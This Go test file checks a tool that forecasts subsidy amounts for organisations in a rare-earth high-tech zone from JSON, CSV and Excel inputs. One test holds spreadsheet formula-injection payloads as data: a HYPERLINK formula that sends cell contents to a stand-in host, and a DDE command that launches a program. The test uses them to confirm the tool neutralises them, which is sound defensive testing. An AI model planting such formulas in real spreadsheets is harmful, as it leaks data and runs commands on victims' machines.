package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/shopspring/decimal"

	"baotou-widget/rules"
	"baotou-widget/rules/batch"
)

const examples = "../../rules/examples/"

// batchFiles are the officers' example spreadsheets of package batch: the Chinese template
// filled with the public examples, as UTF-8 and as Excel's GB18030 "CSV (逗号分隔)".
const batchFiles = "../../rules/batch/testdata/"

func assess(t *testing.T, stdin string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errOut bytes.Buffer
	code = run(args, strings.NewReader(stdin), &out, &errOut)
	return code, out.String(), errOut.String()
}

func TestJSONFileAndStdin(t *testing.T) {
	code, fromFile, stderr := assess(t, "", examples+"magnet-maker.answers.json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	var r rules.Report
	if err := json.Unmarshal([]byte(fromFile), &r); err != nil {
		t.Fatal(err)
	}
	if r.Total != "1175000.00" || r.TotalUpTo != "1285000.00" || r.TotalCompetitive != "3000000.00" || len(r.Items) != 21 {
		t.Errorf("total %s upTo %s competitive %s items %d", r.Total, r.TotalUpTo, r.TotalCompetitive, len(r.Items))
	}
	if r.Items[0].Basis != rules.Competitive {
		t.Errorf("m1 has basis %s", r.Items[0].Basis)
	}
	if !strings.Contains(fromFile, "研发费用增量补助") {
		t.Error("Chinese is not the default")
	}
	data, _ := os.ReadFile(examples + "magnet-maker.answers.json")
	code, fromStdin, _ := assess(t, string(data))
	if code != 0 || fromStdin != fromFile {
		t.Errorf("standard input gave exit %d and a different result", code)
	}
	code, english, _ := assess(t, string(data), "-lang", "en")
	if code != 0 || !strings.Contains(english, "R&D growth subsidy") {
		t.Errorf("-lang en: exit %d", code)
	}
	// A file saved by Windows Notepad starts with a byte-order mark (spec/answers.md).
	bommed := filepath.Join(t.TempDir(), "notepad.json")
	if err := os.WriteFile(bommed, append([]byte("\ufeff"), data...), 0o600); err != nil {
		t.Fatal(err)
	}
	code, fromBOM, stderr := assess(t, "", bommed)
	if code != 0 || fromBOM != fromFile {
		t.Errorf("a file with a byte-order mark: exit %d, %s", code, stderr)
	}
}

func TestBadInput(t *testing.T) {
	bad := filepath.Join(t.TempDir(), "bad.json")
	os.WriteFile(bad, []byte(`{"rd":{"thisYear":"12,0"}}`), 0o644)
	for _, c := range []struct {
		name, stdin string
		args        []string
		err         string
	}{
		{"bad file", "", []string{bad}, `rd.thisYear: "12,0": 不是金额`},
		{"bad file in English", "", []string{"-lang", "en", bad}, `rd.thisYear: "12,0": not an amount`},
		{"missing file", "", []string{"/nonexistent.json"}, "no such file"},
		{"not JSON", "hello", nil, "不是有效的 JSON"},
		{"bad language", "{}", []string{"-lang", "fr"}, "want zh or en"},
		{"-o without a batch", "{}", []string{"-o", "x.xlsx"}, "-o goes with -csv or -template"},
	} {
		code, stdout, stderr := assess(t, c.stdin, c.args...)
		if code != 2 || stdout != "" || !strings.Contains(stderr, c.err) {
			t.Errorf("%s: exit %d, stdout %q, stderr %q", c.name, code, stdout, stderr)
		}
	}
}

// forecastRows runs a batch and reads the CSV it prints, by column name.
func forecastRows(t *testing.T, stdin string, args ...string) ([][]string, map[string]int) {
	t.Helper()
	code, stdout, stderr := assess(t, stdin, append([]string{"-csv"}, args...)...)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(stdout, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	return rows, col
}

// TestCSVByFieldPath: a header of field paths, amounts in yuan, as before; out come the
// items' names, every organisation's amounts and totals, and a row of sums.
func TestCSVByFieldPath(t *testing.T) {
	rows, col := forecastRows(t, "", "testdata/batch.csv")
	if len(rows) != 5 || len(rows[0]) != 26 {
		t.Fatalf("%d rows of %d columns", len(rows), len(rows[0]))
	}
	first := rows[1]
	if first[col["企业名称"]] != "磁材公司" || first[col["行号"]] != "2" || first[col["确定金额合计（元）"]] != "1175000.00" ||
		first[col["含“最高”金额合计（元）"]] != "1285000.00" || first[col["竞争性项目合计（元）"]] != "3000000.00" {
		t.Errorf("first row %v", first)
	}
	if got := first[col["六 · 研发费用增量补助（元）"]]; got != "45000.00" {
		t.Errorf("m6.rd_growth %s", got)
	}
	// The last row sums every column.
	for c := 2; c < len(rows[0]); c++ {
		sum := decimal.Decimal{}
		for _, r := range rows[1:4] {
			sum = sum.Add(decimal.RequireFromString(r[c]))
		}
		if rows[4][c] != sum.StringFixed(2) {
			t.Errorf("sum of %s: %s, want %s", rows[0][c], rows[4][c], sum.StringFixed(2))
		}
	}
	if rows[4][0] != "合计" {
		t.Errorf("sum row named %q", rows[4][0])
	}
}

// TestChineseTemplateAndGB18030: the Chinese template, filled in words, and the same
// saved by Excel as GB18030, forecast every organisation as the JSON assessment does.
func TestChineseTemplateAndGB18030(t *testing.T) {
	code, template, stderr := assess(t, "", "-template")
	if code != 0 || !strings.HasPrefix(template, "\ufeff企业名称,在稀土高新区依法登记注册并经营,机构类型,") || !strings.Contains(template, ",今年研发费用（万元）,") {
		t.Fatalf("-template: exit %d %s, %.200q", code, stderr, template)
	}
	// The magnet maker, as an officer types it into the template's columns.
	header, _ := csv.NewReader(strings.NewReader(strings.TrimPrefix(template, "\ufeff"))).Read()
	words := map[string]string{
		"企业名称": "永磁材料企业", "在稀土高新区依法登记注册并经营": "是", "机构类型": "企业", "规模以上工业企业": "是",
		"申报“揭榜挂帅”项目": "是", "项目所属领域": "稀土新材料及应用", "申报“揭榜挂帅”项目 · 申请支持金额（不填按最高额）（万元）": "300",
		"今年新备案的创新平台": "自治区重点实验室", "今年认定登记的技术合同中技术交易额（万元）": "1,200", "科技型中小企业备案": "再次备案",
		"高新技术企业": "再次认定", "持有有效期内的高新技术企业证书": "√", "今年研发费用（万元）": "1200", "上年研发费用（万元）": "1050",
		"今年营业收入（万元）": "20000", "今年实际支付的贷款利息（万元）": "30",
	}
	row := make([]string, len(header))
	for i, h := range header {
		row[i] = words[h]
		delete(words, h)
	}
	if len(words) > 0 {
		t.Fatalf("the template lacks %v", words)
	}
	var filled strings.Builder
	w := csv.NewWriter(&filled)
	w.Write(row)
	w.Flush()
	rows, col := forecastRows(t, template+filled.String())
	want := assessed(t, "magnet-maker")
	if got := rows[1][col["确定金额合计（元）"]]; got != want.Total {
		t.Errorf("the filled template: total %s, want %s", got, want.Total)
	}

	for _, file := range []string{"forecast-gb18030.csv", "forecast.csv", "forecast.xlsx"} {
		rows, col := forecastRows(t, "", batchFiles+file)
		for i, example := range []string{"magnet-maker", "alloy-works", "pilot-plant", "unicorn-startup", "incubator-operator", "research-institute-outside", "empty"} {
			want := assessed(t, example)
			got := rows[i+1]
			if got[col["确定金额合计（元）"]] != want.Total || got[col["含“最高”金额合计（元）"]] != want.TotalUpTo || got[col["竞争性项目合计（元）"]] != want.TotalCompetitive {
				t.Errorf("%s, %s: %v; want %s / %s / %s", file, example, got, want.Total, want.TotalUpTo, want.TotalCompetitive)
			}
			for _, it := range want.Items {
				if a := got[col[it.Clause+" · "+it.Title+"（元）"]]; a != it.Amount {
					t.Errorf("%s, %s, %s: %s, want %s", file, example, it.ID, a, it.Amount)
				}
			}
		}
	}
}

// assessed is the JSON assessment of an example, in Chinese.
func assessed(t *testing.T, example string) rules.Report {
	t.Helper()
	code, out, stderr := assess(t, "", examples+example+".answers.json")
	if code != 0 {
		t.Fatal(stderr)
	}
	var r rules.Report
	if err := json.Unmarshal([]byte(out), &r); err != nil {
		t.Fatal(err)
	}
	return r
}

// TestEveryBadRow: every bad row is reported, with its row, column, value and problem;
// nothing is printed or written.
func TestEveryBadRow(t *testing.T) {
	out := filepath.Join(t.TempDir(), "forecast.xlsx")
	code, stdout, stderr := assess(t, "", "-csv", "-lang", "en", "-o", out, "testdata/bad.csv")
	if code != 2 || stdout != "" {
		t.Errorf("exit %d, stdout %q", code, stdout)
	}
	if _, err := os.Stat(out); err == nil {
		t.Error("a bad batch wrote its -o file")
	}
	for _, want := range []string{
		`assess: row 3: column C "rd.thisYear": "12,0x": is not an amount`,
		`assess: row 4: column B "inZone": "maybe": should be yes or no (also 是/否, √, 1/0, true/false; empty is no); column D "orgType": "公司": is not one of: enterprise, research institute, university, other`,
		`assess: row 5: column C "rd.thisYear": "-5": cannot be negative`,
	} {
		if !strings.Contains(stderr, want+"\n") {
			t.Errorf("stderr lacks %q:\n%s", want, stderr)
		}
	}
	for _, c := range []struct{ in, err string }{
		{"name,nope\nx,1\n", `第 1 行: B 列“nope”: 不是模板中的列名`},
		{"inZone,inZone\nx,y\n", `B 列“inZone”: 与 A 列重复`},
		{"", "文件是空的"},
		{"inZone,orgType\n", "列名下面没有企业"},
	} {
		code, stdout, stderr := assess(t, c.in, "-csv")
		if code != 2 || stdout != "" || !strings.Contains(stderr, c.err) {
			t.Errorf("%q: exit %d, stdout %q, stderr %q", c.in, code, stdout, stderr)
		}
	}
}

// TestAmountsAsTheQuestionnaireReadsThem: a cell the questionnaire refuses is a bad row
// naming its column, never another number ("1200,5" once paid RMB 2,401.00 of interest
// subsidy); "1,200" is 1,200.
func TestAmountsAsTheQuestionnaireReadsThem(t *testing.T) {
	for _, bad := range []string{"1,2", "12,0", "1200,5"} {
		in := "name,inZone,orgType,techSME,loanInterest\nx,true,enterprise,first,\"" + bad + "\"\n"
		code, stdout, stderr := assess(t, in, "-csv", "-lang", "en")
		want := `assess: row 2: column E "loanInterest": "` + bad + `": has thousands separators in the wrong place`
		if code != 2 || stdout != "" || !strings.Contains(stderr, want) {
			t.Errorf("%q: exit %d, stdout %q, stderr %q", bad, code, stdout, stderr)
		}
	}
	in := "name,inZone,orgType,techSME,loanInterest\nx,true,enterprise,first,\"1,200\"\n"
	code, stdout, stderr := assess(t, in, "-csv", "-lang", "en")
	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if code != 0 || err != nil || len(rows) < 2 {
		t.Fatalf("exit %d, %v, stderr %q", code, err, stderr)
	}
	col := slices.IndexFunc(rows[0], func(h string) bool { return strings.HasPrefix(h, "7 ·") })
	if col < 0 || rows[1][col] != "240.00" { // 20% of 1,200
		t.Errorf("loan interest of \"1,200\": %q in %q", rows[1], rows[0])
	}
}

// TestOutputs: -bom marks the CSV for Excel; -o NAME.xlsx writes a workbook whose first
// sheet says what the CSV says; -template -o writes the .xlsx template.
func TestOutputs(t *testing.T) {
	_, plain, _ := assess(t, "", "-csv", "testdata/batch.csv")
	_, bom, _ := assess(t, "", "-csv", "-bom", "testdata/batch.csv")
	if strings.HasPrefix(plain, "\ufeff") || bom != "\ufeff"+plain {
		t.Errorf("-bom: %.20q, without: %.20q", bom, plain)
	}
	dir := t.TempDir()
	book := filepath.Join(dir, "forecast.xlsx")
	if code, stdout, stderr := assess(t, "", "-csv", "-o", book, "testdata/batch.csv"); code != 0 || stdout != "" {
		t.Fatalf("-o: exit %d, stdout %q, %s", code, stdout, stderr)
	}
	want, _ := csv.NewReader(strings.NewReader(plain)).ReadAll()
	if got := firstSheet(t, book); fmt.Sprint(got) != fmt.Sprint(numbersAlike(want)) {
		t.Errorf("the workbook's forecast:\n%v\nthe CSV:\n%v", got, want)
	}
	tmpl := filepath.Join(dir, "template.xlsx")
	if code, _, stderr := assess(t, "", "-template", "-lang", "en", "-o", tmpl); code != 0 {
		t.Fatal(stderr)
	}
	if got := firstSheet(t, tmpl); len(got) != 1 || got[0][0] != "Organisation" || got[0][1] != rules.Question(rules.English, "inZone") {
		t.Errorf("the English template: %v", got)
	}
}

// formulaNames are the names of testdata/formula-names.csv as they are read (a tab
// around a cell goes): each but the last a spreadsheet would evaluate.
var formulaNames = []string{`=HYPERLINK("http://x.example/?"&A1,"详情")`, `=cmd|' /C calc'!A0`, "+1+1", "-1+1", "@SUM(1,1)", "=1+1", "普通企业"}

// TestFormulaLikeNames: names a spreadsheet would take for formulas stay text: a single
// quote first in the CSV, as OWASP advises, and a string in the .xlsx.
func TestFormulaLikeNames(t *testing.T) {
	rows, _ := forecastRows(t, "", "testdata/formula-names.csv")
	book := filepath.Join(t.TempDir(), "forecast.xlsx")
	if code, _, stderr := assess(t, "", "-csv", "-o", book, "testdata/formula-names.csv"); code != 0 {
		t.Fatal(stderr)
	}
	sheet := firstSheet(t, book)
	for i, name := range formulaNames {
		want := name
		if i < len(formulaNames)-1 {
			want = "'" + name
		}
		if got := rows[i+1][0]; got != want {
			t.Errorf("CSV: %q, want %q", got, want)
		}
		if got := sheet[i+1][0]; got != name {
			t.Errorf(".xlsx: %q, want %q", got, name)
		}
	}
}

// firstSheet reads a workbook's first sheet as the batch reads it, header and rows, each
// number written alike: the workbook keeps 1175000.00 as 1175000.
func firstSheet(t *testing.T, path string) [][]string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	s, err := batch.ReadSheet(data)
	if s == nil { // a sheet with only its header reads with an error, and is still read
		t.Fatal(err)
	}
	return numbersAlike(append([][]string{s.Header}, cellsOf(s.Rows)...))
}

func cellsOf(rows []batch.SheetRow) [][]string {
	var cells [][]string
	for _, r := range rows {
		cells = append(cells, r.Cells)
	}
	return cells
}

func numbersAlike(rows [][]string) [][]string {
	for _, r := range rows {
		for i, c := range r {
			if d, err := decimal.NewFromString(c); err == nil {
				r[i] = d.String()
			}
		}
	}
	return rows
}

// BenchmarkCSV forecasts 100,000 organisations from a CSV of field paths.
func BenchmarkCSV(b *testing.B) {
	header := "name,inZone,orgType,aboveScaleIndustrial,newPlatforms,techSME,hte,rd.thisYear,rd.lastYear,rd.revenue,loanInterest,techContracts\n"
	var in strings.Builder
	in.WriteString(header)
	for i := range 100000 {
		fmt.Fprintf(&in, "org%d,true,enterprise,true,region_key_lab,repeat,renewed,%d,10500000,200000000,300000,12000000\n", i, 10000000+i)
	}
	data := in.String()
	b.ResetTimer()
	for b.Loop() {
		if _, err := assessBatch(strings.NewReader(data), rules.Chinese, false, true); err != nil {
			b.Fatal(err)
		}
	}
}
